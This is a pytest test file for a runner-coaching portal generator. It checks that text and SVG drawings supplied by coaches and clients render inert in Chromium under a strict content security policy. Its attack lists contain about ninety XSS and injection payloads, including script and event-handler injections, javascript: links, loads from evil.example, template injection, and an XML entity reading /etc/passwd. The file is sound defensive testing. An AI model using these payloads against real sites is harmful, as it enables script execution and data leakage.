"""Markup where words belong: in a real browser it does nothing, and reads as it was written.

Each attack stands in every text that a coach, a client or a client's check-in can fill, in a
portal in clear and in a sealed one. A page counts as harmed if anything runs, if anything is
asked for that is no file of the site, if the console says a word, or if one element, attribute
or id stands in it that does not stand there for harmless words. Chromium comes from the system;
without it those tests are skipped and say so.

The attacks are of our own making, after the contexts that the HTML standard tells apart: text,
attribute, address, style, script data, and foreign elements.
"""

from __future__ import annotations

import functools
import http.server
import itertools
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml

from nightly import IS_NIGHTLY
from portal_builder import COMPILED
from sitegen.model.drill import Drill
from sitegen.portal.page import CONTENT_SECURITY_POLICY, INSTALL
from sitegen.portal.views.drills import figure as drawn_figure
from sitegen.practice.drills import read_drill
from sitegen.practice.house import Texts, case_of, read_house
from sitegen.seal.addresses import portal_name
from sitegen.seal.keys import Link
from sitegen.seal.sealing import to_base64url
from sitegen.site import client as build
from sitegen.site.building import build_site
from sitegen.site.plans import plan_of
from sitegen.world import read_library, read_templates
from unsealing import unseal

AS_OF = date(2027, 3, 3)

HIT = "window.hit=1"


@dataclass(frozen=True)
class Attack:
    """``shown`` is what a reader sees of it in prose; None: just what was written."""

    text: str
    shown: str | None = None

    @property
    def in_prose(self) -> str:
        return self.text if self.shown is None else self.shown


def A(text: str, shown: str | None = None) -> Attack:
    return Attack(text.replace("HIT", HIT), None if shown is None else shown.replace("HIT", HIT))


ATTACKS = (
    # script elements
    A("<script>HIT</script>"),
    A("<ScRiPt src=//evil.example/x.js></sCrIpT>"),
    A("</script><script>HIT</script>"),
    A("<!--<script>HIT</script>-->"),
    A("</title></textarea></noscript><script>HIT</script>"),
    A("<script type=module>import 'https://evil.example/x.js'</script>"),
    A("<<script>HIT//<</script>"),
    A("<script\n>HIT</script\n>".replace("\n", " ")),
    # event handlers
    A("<img src=x onerror=HIT>"),
    A("<body onload=HIT>"),
    A("<details open ontoggle=HIT>"),
    A("<input autofocus onfocus=HIT>"),
    A("<video><source onerror=HIT></video>"),
    A('" autofocus onfocus=HIT x="'),
    A("' onmouseover=HIT x='"),
    A("`onerror=HIT`", "onerror=HIT"),
    A('"><img src=x onerror=HIT>'),
    A("x onpointerenter=HIT y=z"),
    # links
    A("[tap](javascript:HIT)"),
    A("[tap](JaVaScRiPt:HIT)"),
    A("[tap](java&Tab;script:HIT)", "[tap](java script:HIT)"),
    A("[tap](&#106;avascript:HIT)", "[tap](javascript:HIT)"),
    A("[tap](data:text/html,%3Cscript%3EHIT%3C/script%3E)"),
    A("[tap](vbscript:HIT)"),
    A("[tap](file:///etc/passwd)"),
    A("<javascript:HIT>"),
    A("<a href=javascript:HIT>tap</a>"),
    A("[tap][1] [1]: javascript:HIT"),
    A('[tap](https://example.org/ "\\" onmouseover=HIT x=\\"")', "tap"),
    A('[tap](<https://example.org/" onmouseover="HIT>)', "tap"),
    A("![beacon](https://evil.example/b.png)", "!beacon"),
    A("![x](data:image/svg+xml,%3Csvg%20onload=HIT%3E)"),
    # foreign elements, styles, refresh, base
    A("<svg onload=HIT>"),
    A("<svg><script href=data:,HIT /></svg>"),
    A("<svg><animate onbegin=HIT attributeName=x></svg>"),
    A("<math><mtext><style><img src=x onerror=HIT></style></mtext></math>"),
    A("<style>*{background:url(https://evil.example/s)}</style>"),
    A("</style><style>@import 'https://evil.example/s.css';</style>"),
    A("<link rel=stylesheet href=https://evil.example/s.css>"),
    A("<p style=background:url(//evil.example/s)>x</p>"),
    A("expression(HIT) url(javascript:HIT)"),
    A("<meta http-equiv=refresh content=0;url=https://evil.example/>"),
    A("<base href=https://evil.example/>"),
    A("<iframe srcdoc='<script>parent.hit=1</script>'></iframe>"),
    A("<object data=https://evil.example/></object><embed src=//evil.example>"),
    A("<form action=https://evil.example/><button autofocus>Send</button></form>"),
    # taking the place of the page's own names
    A("<img id=portal><img id=sealed><a id=portal-data>"),
    A("<form id=location><input name=hash></form><img name=portal>"),
    A("<section class=view id=now></section>"),
    A("portal-data __proto__ constructor toString", "portal-data proto constructor toString"),
    # templates and translations
    A("{{ 7*7 }} {{ config }} {{ ''.__class__.__mro__ }}",
      "{{ 7*7 }} {{ config }} {{ ''.class.mro }}"),
    A("{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
      "{% for x in ().class.bases %}{{ x }}{% endfor %}"),
    A("{# gone #} ${7} #{7} <%= 7*7 %> %(called)s {0} {coach} %s"),
    A("%(name)d %% %"),
    # inside the block of data
    A("</script><!-- ]]> --> \\u003c/script> \\\" \\\\",
      '</script><!-- ]]> --> \\u003c/script> " \\'),
    A('","called":"x","status":"ended","x":"'),
    A("a\u2028b\u2029c", "a\u2028b\u2029c"),
    # letters
    A("\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d"),
    A("＜script＞HIT＜/script＞ ʺ onload=HIT"),
    A("&lt;script&gt;HIT&lt;/script&gt; &quot; &#39; &amp;amp;",
      "<script>HIT</script> \" ' &amp;"),
    A("&#x3c;img src=x onerror=HIT&#x3e;", "<img src=x onerror=HIT>"),
    A("Z̷̢̛͖a̶l̵g̸o̷ 👩🏽‍🦽‍➡️ 𝕳 ﷽"),
    A("W" * 190),
    A("<plaintext><xmp><listing>"),
    A("<template><slot name=x></template><x-y is=z>"),
)  # fmt: skip

HARMLESS = Attack("Plain words that anybody could write")


@dataclass(frozen=True)
class Portal:
    """One client's page in clear or sealed, and the document in it."""

    page: str
    document: str
    id: str
    key: str
    install: str


class House:
    """Builds portals of a practice whose every text is one attack, or several."""

    def __init__(self) -> None:
        self.renderer = build.renderer_of(read_templates(), COMPILED.codes)
        library = read_library()
        self.shipped_drills = {id: library[id] for id in ("quiet-landing", "bridge")}
        self.count = 0

    def portal(self, *attacks: Attack, privacy: str, turn: int = 0) -> Portal:
        texts = self.texts(attacks, privacy, turn)
        house, problems = read_house(texts)
        assert house is not None, problems
        case, told = case_of(texts, house, "runner")
        assert case is not None and not [p for p in told if p.level == "error"], told
        self.count += 1
        raw = self.count.to_bytes(2, "big")
        link = Link(to_base64url(raw * 8), raw * 16, to_base64url(b"feed" * 4))
        plan = plan_of(case, house, AS_OF)
        files, _ = build.files_of(case, plan, house, link, self.renderer)
        page = files[portal_name(link)].decode()
        document = page
        if privacy == "sealed":
            import base64

            block = re.search(r'id="sealed"[^>]*>([^<]*)<', page)
            assert block is not None
            document = unseal(base64.b64decode(block[1]), portal=link.portal, key=link.key).decode()
        install = files[f"{link.portal}/{INSTALL}"].decode()
        return Portal(page, document, link.portal, link.key_text, install)

    def texts(self, attacks: tuple[Attack, ...], privacy: str, turn: int = 0) -> Texts:
        """Every text of a practice.

        A list or a prose holds all the attacks; a text of one line holds one, the next text the
        next, beginning with number ``turn``.
        """
        lines = [a.text for a in attacks]
        prose = "\n\n".join(lines)
        one = itertools.cycle([*lines[turn:], *lines[:turn]]).__next__
        practice = {
            "name": one(), "coach": one(), "contact": "coach@example.org", "emergency": one(),
            "timezone": "Europe/Lisbon", "privacy": privacy,
            "address": "https://plans.example.org/",
        }  # fmt: skip
        client = {
            "name": one(), "called": one(), "born": "1988-04-03",
            "screening": {"on": "2027-01-20", "regular_exercise": "yes", "known_disease": "no",
                          "symptoms": "no"},
            "baseline": {"on": "2027-01-27", "cadence": "160 spm", "pace": "6:05 /km",
                         "week": "100 min", "longest": "50 min", "runs": "2"},
            "goal": {"text": one(),
                     "event": {"on": "2027-04-25", "distance": "5 km", "name": one()}},
            "week": {"tue": {"at": "06:45"}, "sun": {"at": "09:00"},
                     "fri": {"for": ["run", "strength"]}},
            "plan": {"from": "2027-02-01", "weeks": "12"},
            "drills": ["bridge", "quiet-landing", "own-drill"],
            "notes": [{"week": str(n), "text": prose} for n in (1, 5)],
            "changes": [{"week": "6", "cadence": "161 spm", "because": one()}],
        }  # fmt: skip
        log = [
            {"on": "2027-02-02", "ran": "30 min", "cadence": "160 spm", "said": prose,
             "pain": {"during": "1", "after": "1", "site": one()}},
            {"on": "2027-03-02", "skipped": "other", "said": prose},
        ]  # fmt: skip
        front = {"title": one(), "purpose": one(), "dose": one(), "where": "warm_up",
                 "cues": [*lines], "slips": [*lines], "stop": [*lines],
                 "source": one()}  # fmt: skip
        body = prose.replace("\u2028", " ").replace("\u2029", " ")  # refused there, see below
        drill = f"---\n{dump(front)}---\n{body}\n"
        return Texts(
            practice=dump(practice).encode(),
            practice_file="clients/practice.yaml",
            clients={"runner": dump(client).encode()},
            logs={"runner": dump(log).encode()},
            folder="clients",
            drills={"own-drill": drill.encode()},
            figures={"own-drill": FIGURE.encode()},
            shipped_drills=self.shipped_drills,
        )


def dump(tree: Any) -> str:
    """YAML; what may not stand in a file as it is stands there in escapes."""
    text = yaml.safe_dump(tree, allow_unicode=True, width=10**6, sort_keys=False, default_style='"')
    return text.replace("\u2028", "\\u2028").replace("\u2029", "\\u2029")


FIGURE = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 40">'
    '<circle cx="20" cy="20" r="9" fill="#456"/></svg>'
)


@pytest.fixture(scope="module")
def house() -> House:
    return House()


# What stands in a page, told by a parser of Python's own


class Shape(HTMLParser):
    """Elements with their attributes' names, ids, addresses; prose apart from the rest."""

    VOID = frozenset({"meta", "link", "img", "input", "br", "hr", "source", "wbr"})

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.prose: list[tuple[str, tuple[str, ...]]] = []
        self.ids: list[str] = []
        self.addresses: list[str] = []
        self.scripts: list[dict[str, str]] = []
        self.loaded: list[str] = []
        self.metas: dict[str, str] = {}
        self._open: list[tuple[str, bool]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        in_prose = any(prose for _, prose in self._open)
        (self.prose if in_prose else self.elements).append((tag, tuple(sorted(values))))
        self.ids += [values["id"]] if "id" in values else []
        self.addresses += [values[n] for n in ("href", "action", "formaction") if n in values]
        self.loaded += [values[n] for n in ("src", "srcset", "poster", "data") if n in values]
        if tag == "script":
            self.scripts.append(values)
        if tag == "link":
            self.loaded.append(values["href"])
        if tag == "meta":
            self.metas[values.get("name") or values.get("http-equiv", "")] = values.get(
                "content", ""
            )
        if tag not in self.VOID:
            self._open.append((tag, "prose" in values.get("class", "").split()))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in self.VOID:
            self._open.pop()

    def handle_endtag(self, tag: str) -> None:
        while self._open and self._open.pop()[0] != tag:
            pass


MARKDOWN = {
    "p", "em", "strong", "a", "ul", "ol", "li", "blockquote", "code", "pre", "hr", "br",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "s",
}  # fmt: skip


def test_there_are_many_attacks_and_each_is_another() -> None:
    assert len(ATTACKS) >= 60
    assert len({a.text for a in ATTACKS}) == len(ATTACKS)


@pytest.mark.parametrize("privacy", ["open", "sealed"])
def test_no_attack_adds_an_element_an_attribute_or_an_id(house: House, privacy: str) -> None:
    """The page holds just the elements that it holds for harmless words, in their order.

    By day each third in a sealed one, whose inside is drawn as an open one is.
    """
    calm = Shape(house.portal(HARMLESS, privacy=privacy).document)
    every = ATTACKS if IS_NIGHTLY or privacy == "open" else ATTACKS[::3]
    for attack in every:
        shape = Shape(house.portal(attack, privacy=privacy).document)
        assert shape.elements == calm.elements, attack
        assert shape.ids == calm.ids, attack
        for tag, names in shape.prose:
            calm_ones = (tag, names) in calm.prose
            assert calm_ones or tag in MARKDOWN, (attack, tag)
            assert calm_ones or set(names) <= {"href", "rel", "title", "start"}, (attack, names)
        for address in shape.addresses:
            may_lead = re.match(r"(#|https://example\.org/|https://evil\.example/b)", address)
            assert may_lead or address in calm.addresses, (attack, address)


def test_an_attack_let_through_would_be_seen(house: House) -> None:
    calm = Shape(house.portal(HARMLESS, privacy="open").document)
    for leak in ("<img src=x onerror=1>", "<b id=portal>"):
        page = house.portal(HARMLESS, privacy="open").document
        shape = Shape(page.replace(HARMLESS.text, leak, 1))
        assert shape.elements != calm.elements


# Characters that may not stand in a file at all


@pytest.mark.parametrize("character", ["\x00", "\x07", "\x1b", "\x7f", "\ufeff", "\ufffe"])
def test_an_unseen_character_is_refused_with_its_place(house: House, character: str) -> None:
    texts = house.texts((HARMLESS,), "sealed")
    practice, problems = read_house(texts)
    assert practice is not None, problems
    client = texts.clients["runner"].replace(
        b'"called": "Plain', f'"called": "Pl{character}'.encode()
    )
    case, told = case_of(texts._replace(clients={"runner": client}), practice, "runner")
    assert case is None
    assert told[0].origin.file == "clients/runner.yaml" and told[0].origin.line == 2
    assert told[0].origin.column == len('"called": "Pl') + 1
    body = f"---\ntitle: Own\n---\nSoft\nfe{character}et\n".encode()
    drill, problems = read_drill("own", body, "clients/drills/own.md", own=True)
    assert drill is None
    (problem,) = problems
    assert (problem.origin.line, problem.origin.column, problem.code) == (5, 3, "invisible")


def test_an_unseen_character_in_an_escape_is_refused_too(house: House) -> None:
    texts = house.texts((HARMLESS,), "sealed")
    practice, _ = read_house(texts)
    assert practice is not None
    for escape in (b"\\0", b"\\x07", b"\\e", b"\\uFEFF"):
        client = texts.clients["runner"].replace(b'"called": "Plain', b'"called": "Pl' + escape)
        case, told = case_of(texts._replace(clients={"runner": client}), practice, "runner")
        assert case is None and told[0].origin.line == 2, escape


def test_more_text_than_a_seal_may_hold_is_a_problem_and_no_traceback(tmp_path: Path) -> None:
    """Within every other limit, since a quotation mark takes six letters in a page."""
    texts = House().texts((HARMLESS,), "sealed")
    assert texts.practice is not None
    long = [{"on": "2027-02-02", "skipped": "other", "said": "HERE"} for _ in range(50)]
    client = yaml.safe_load(texts.clients["runner"])
    client["notes"] = [{"week": str(1 + n % 12), "text": "HERE"} for n in range(50)]
    client["drills"] = ["bridge"]
    (tmp_path / "clients").mkdir()
    (tmp_path / "clients" / "practice.yaml").write_bytes(texts.practice)
    lengths = itertools.count(19_800)
    for name, value in (("runner.log.yaml", long), ("runner.yaml", client)):
        # Each of another length, since a text that comes twice stands in a page once.
        text = re.sub('"?HERE"?', lambda _: "'" + '"' * next(lengths) + "'", dump(value))
        (tmp_path / "clients" / name).write_text(text)
    built = build_site(tmp_path / "clients", tmp_path / "public", as_of=AS_OF)
    assert not built.done
    (problem,) = [p for p in built.problems if p.level == "error"]
    assert problem.code == "portal-size" and problem.origin.file.endswith("runner.yaml")
    assert not (tmp_path / "public").exists()


# A real browser


@dataclass
class Visit:
    """A page that was loaded, and everything that it did."""

    page: Any
    noise: list[str]


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    folder = tmp_path_factory.mktemp("attacked")
    renderer = build.renderer_of(read_templates(), COMPILED.codes)
    for name, data in build.shared_files(renderer, _house()).items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            pass

    handler = functools.partial(Quiet, directory=str(folder))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield folder, f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


def _house() -> Any:
    house, _ = read_house(House().texts((HARMLESS,), "open"))
    assert house is not None
    return house


@pytest.fixture(scope="module")
def visit(browser: Any, served: tuple[Path, str]) -> Iterator[Any]:
    """Loads a page in Chromium and tells all that it did."""
    folder, base = served
    context = browser.new_context(viewport={"width": 390, "height": 844})
    page = context.new_page()
    noise: list[str] = []

    def dialog(box: Any) -> None:
        noise.append("dialog")
        box.dismiss()

    page.on("dialog", dialog)
    page.on("console", lambda said: noise.append(f"console: {said.text} {said.location['url']}"))
    page.on("pageerror", lambda error: noise.append(f"error: {error}"))
    page.on("popup", lambda other: noise.append(f"popup: {other.url}"))
    page.on("framenavigated", lambda frame: noise.append(f"went to {frame.url}"))
    page.on("request", lambda request: noise.append(f"asked for {request.url}"))

    def load(
        portal: Portal, sealed: bool, *, content: str | None = None, patience: int = 30_000
    ) -> Visit:
        (folder / portal.id).mkdir(exist_ok=True)
        (folder / portal.id / "index.html").write_text(
            portal.page if content is None else content, encoding="utf-8"
        )
        (folder / portal.id / "plan.webmanifest").write_text(portal.install)
        page.goto("about:blank")
        noise.clear()
        address = f"{base}/{portal.id}/"
        own = (f"{base}/assets/", f"{base}/worker.js", f"{address}plan.webmanifest")
        page.goto(address + (f"#k={portal.key}" if sealed else ""))
        page.wait_for_selector("html[data-ready]", state="attached", timeout=patience)
        for view in ("now", "weeks", "drills", "cadence", "checkin", "calendar", "care"):
            page.evaluate("view => window.portal.go(view)", view)
            page.wait_for_selector(f'html[data-view="{view}"]', state="attached")
        expected = {f"went to {address}", f"asked for {address}", "asked for data:,"}
        mine = [
            line
            for line in noise
            if line not in expected
            and not line.startswith((f"went to {address}#", *(f"asked for {name}" for name in own)))
            and not line.startswith("asked for data:image/svg+xml;base64,")
        ]
        return Visit(page, mine)

    yield load
    context.close()


READ = """() => {
  const text = (root) => root.textContent;
  const within = (selector) => Array.from(document.querySelectorAll(selector), text);
  return {
    hit: window.hit === undefined ? null : String(window.hit),
    title: document.title,
    greeting: text(document.querySelector("h1.whose")),
    practice: text(document.querySelector("p.practice")),
    lines: within(".goal, .drill, .told, .reasons, .foot, .event"),
    prose: within(".prose"),
    called: window.portal.data.called,
    status: window.portal.data.status,
    wide: Array.from(document.querySelectorAll(".view"), (view) => {
      window.portal.go(view.id);
      for (const other of document.querySelectorAll(".view")) other.hidden = other !== view;
      for (const part of view.querySelectorAll("details")) part.open = true;
      return document.documentElement.scrollWidth > innerWidth ? view.id : "";
    }).join(""),
  };
}"""


def flat(text: str) -> str:
    return " ".join(text.split())


BATCHES = [ATTACKS[start : start + 13] for start in range(0, len(ATTACKS), 13)]


@pytest.mark.parametrize("turn", [0, 4, 8])
@pytest.mark.parametrize("batch", BATCHES, ids=range(len(BATCHES)))
def test_every_attack_reads_as_it_was_written_and_does_nothing(
    house: House, visit: Any, batch: tuple[Attack, ...], turn: int
) -> None:
    seen = visit(house.portal(*batch, privacy="open", turn=turn), False)
    told = seen.page.evaluate(READ)
    assert seen.noise == [] and told["hit"] is None
    ordered = [a.text for a in (*batch[turn:], *batch[:turn])]
    assert flat(told["practice"]) == flat(ordered[0])
    assert flat(ordered[4]) in flat(told["greeting"])
    assert told["called"] == ordered[4] and told["status"] == "active"
    lines = [flat(line) for line in told["lines"]]
    for place in (1, 5, 6, 7, 8, 9, 10, 11, 12):
        assert any(flat(ordered[place]) in line for line in lines), (place, ordered[place])
    assert any(all(flat(text) in line for text in ordered) for line in lines), "the own drill"
    prose = [flat(text) for text in told["prose"]]
    for attack in batch:
        assert sum(flat(attack.in_prose) in text for text in prose) >= 3, attack
    assert told["wide"] == ""


@pytest.mark.parametrize("batch", BATCHES, ids=range(len(BATCHES)))
def test_attacks_in_a_sealed_portal_do_nothing_either(
    house: House, visit: Any, batch: tuple[Attack, ...]
) -> None:
    seen = visit(house.portal(*batch, privacy="sealed"), True)
    told = seen.page.evaluate(READ)
    assert seen.noise == [] and told["hit"] is None
    prose = flat(" ".join(told["prose"]))
    assert [a.text for a in batch if flat(a.in_prose) not in prose] == []


@pytest.mark.parametrize(
    ("leak", "sign"),
    [
        ("<img src=x onerror=window.hit=1>", "console: "),
        ("<script>window.hit=1</script>", "console: "),
        ("<img src=/elsewhere.png>", "asked for "),
        ("<meta http-equiv=refresh content=0;url=/robots.txt>", "went to "),
    ],
)
def test_the_browser_test_can_fail(house: House, visit: Any, leak: str, sign: str) -> None:
    """The same portal with the markup let through: the list of what it did is not empty."""
    portal = house.portal(HARMLESS, privacy="open")
    content = portal.page.replace(HARMLESS.text, leak, 1)
    try:
        seen = visit(portal, False, content=content, patience=3000).noise
    except Exception as error:
        seen = [f"went to {error}"]
    assert any(line.startswith(sign) for line in seen)


# A coach's own drawing


SVG = "http://www.w3.org/2000/svg"
DRAWINGS = {
    "script": "<script>HIT</script>",
    "script from elsewhere": '<script href="https://evil.example/x.js"/>',
    "handler": '<circle r="9" onload="HIT"/>',
    "foreign object": '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>',
    "page element": '<script xmlns="http://www.w3.org/1999/xhtml">HIT</script>',
    "page picture": '<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="HIT"/>',
    "link": '<a href="javascript:HIT"><circle r="9"/></a>',
    "old link": '<a xmlns:l="http://www.w3.org/1999/xlink" l:href="javascript:HIT"/>',
    "picture from elsewhere": '<image href="https://evil.example/b.png"/>',
    "drawing in a drawing": '<image href="data:image/svg+xml,%3Csvg%20onload=HIT%3E"/>',
    "use from elsewhere": '<use href="https://evil.example/s.svg#x"/>',
    "animated link": '<animate attributeName="href" values="javascript:HIT"/>',
    "set handler": '<set attributeName="onload" to="HIT"/>',
    "style sheet": "<style>@import 'https://evil.example/s.css';</style>",
    "style address": '<rect style="fill:url(https://evil.example/s)"/>',
    "hidden style address": r'<rect fill="u\72l(https://evil.example/s)"/>',
    "filter from elsewhere": '<rect filter="url(//evil.example/f.svg#x)"/>',
    "frame": '<iframe xmlns="http://www.w3.org/1999/xhtml" src="//evil.example"/>',
    "sound": '<audio xmlns="http://www.w3.org/1999/xhtml" src="//evil.example" autoplay=""/>',
}
WHOLE = {
    "entities": '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;">]>'
    f'<svg xmlns="{SVG}"><title>&b;</title></svg>',
    "entity from a file": '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    f'<svg xmlns="{SVG}"><title>&a;</title></svg>',
    "style instruction": '<?xml-stylesheet href="https://evil.example/s.css"?>'
    f'<svg xmlns="{SVG}"/>',
    "handler at the top": f'<svg xmlns="{SVG}" onload="{HIT}"/>',
    "page": "<html><script>window.hit=1</script></html>",
    "half a drawing": f'<svg xmlns="{SVG}"><circle',
    "words": "a circle",
    "large": f'<svg xmlns="{SVG}"><path d="{"M0 0" * 100_000}"/></svg>',
}  # fmt: skip
ALL_DRAWINGS = {
    **{
        name: f'<svg xmlns="{SVG}" viewBox="0 0 40 40">{inside.replace("HIT", HIT)}</svg>'
        for name, inside in DRAWINGS.items()
    },
    **WHOLE,
}
OWN = b"---\ntitle: Own\n---\n"


@pytest.mark.parametrize("name", ALL_DRAWINGS)
def test_a_drawing_that_is_more_than_a_drawing_is_refused_with_its_place(name: str) -> None:
    drill, problems = read_drill(
        "own", OWN, "clients/drills/own.md", own=True, figure=ALL_DRAWINGS[name]
    )
    assert drill is None
    (problem,) = problems
    assert problem.origin.file == "clients/drills/own.svg" and problem.origin.line >= 1
    assert problem.code in ("figure-form", "figure-runs", "figure-size") and problem.hint


@pytest.mark.parametrize(
    "inside",
    [
        '<path d="M0 0h9" style="fill:none;stroke:#000"/><text x="1" y="9">soft</text>',
        '<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>'
        '<rect width="9" height="9" fill="url(#g)"/><use href="#g"/>',
        "<style>.a{fill:#123}</style><g class='a'><circle r='3'/></g>",
        '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>',
        '<image href="data:image/png;base64,iVBORw0KGgo=" width="9" height="9"/>',
    ],
)
def test_what_drawing_programs_write_is_taken(inside: str) -> None:
    drawing = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<!-- drawn by hand -->\n'
        f'<svg xmlns="{SVG}" xmlns:editor="https://example.org/editor" editor:zoom="2" '
        f'viewBox="0 0 9 9">{inside}</svg>'
    )
    drill, problems = read_drill("own", OWN, "clients/drills/own.md", own=True, figure=drawing)
    assert problems == ()
    assert drill is not None and drill.figure == drawing


def test_even_a_drawing_that_was_let_through_can_do_nothing(house: House, visit: Any) -> None:
    """The second lock: it stands in the page as a picture, in which nothing runs or loads."""
    pictures = "".join(
        drawn_figure(Drill("own", "Own", "", (), "warm_up", 3, "", figure=drawing, own=True))
        for drawing in ALL_DRAWINGS.values()
    )
    portal = house.portal(HARMLESS, privacy="open")
    content = portal.page.replace('<main id="main">', f'<main id="main">{pictures}', 1)
    assert content != portal.page
    seen = visit(portal, False, content=content)
    assert seen.noise == []
    assert seen.page.evaluate("window.hit === undefined")
    assert seen.page.locator("img.picture").count() >= len(ALL_DRAWINGS)


# Each page file


def page_files(house: House) -> dict[str, str]:
    sealed, clear = (house.portal(HARMLESS, privacy=p) for p in ("sealed", "open"))
    return {
        "front": house.renderer.front(),
        "sealed page": sealed.page,
        "sealed document": sealed.document,
        "open page": clear.page,
    }


@pytest.mark.parametrize("name", ["front", "sealed page", "sealed document", "open page"])
def test_no_page_holds_a_script_a_style_or_an_address_of_someone_else(
    house: House, name: str
) -> None:
    shape = Shape(page_files(house)[name])
    everything = shape.elements + shape.prose
    assert not [tag for tag, _ in everything if tag in ("style", "iframe", "object", "embed")]
    assert not [n for _, names in everything for n in names if n == "style" or n[:2] == "on"]
    for script in shape.scripts:
        is_data = script.get("type") in ("application/json", "text/plain") and "src" not in script
        assert is_data or script["src"].startswith("../assets/"), script
    for address in shape.loaded:
        assert re.match(r"(\.\./)?assets/[a-z-]+\.[0-9a-f]{10}\.(css|js)$|data:", address), address
    if name != "sealed document":
        assert shape.metas["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
        assert "noindex" in shape.metas["robots"]
        assert shape.metas["referrer"] == "no-referrer"


def test_the_policy_is_strict() -> None:
    rules = {
        name: values for name, *values in (r.split() for r in CONTENT_SECURITY_POLICY.split(";"))
    }
    assert "unsafe" not in CONTENT_SECURITY_POLICY
    assert rules["default-src"] == ["'none'"] and rules["base-uri"] == ["'none'"]
    assert rules["form-action"] == ["'none'"]
    assert rules["require-trusted-types-for"] == ["'script'"]
    for name, values in rules.items():
        if name.endswith("-src") and name != "default-src":
            assert set(values) <= ({"'self'", "data:"} if name == "img-src" else {"'self'"}), name


def test_the_browser_holds_the_page_to_its_policy(house: House, visit: Any) -> None:
    """What the policy forbids fails: script from text, markup from text, and another origin."""
    page = visit(house.portal(HARMLESS, privacy="sealed"), True).page
    markup = """() => { try { document.body.innerHTML = "<p>x"; return "set"; }
                        catch (error) { return error.name; } }"""
    assert page.evaluate(markup) == "TypeError"
    sending = """async () => { try { await fetch("https://evil.example/"); return "sent"; }
                               catch (error) { return error.name; } }"""
    assert page.evaluate(sending) == "TypeError"
    assert page.evaluate(
        """() => { const e = document.createElement("p");
                  try { e.setAttribute("onclick", "window.hit=1"); } catch (error) {}
                  document.body.append(e); e.click(); return window.hit === undefined; }"""
    )
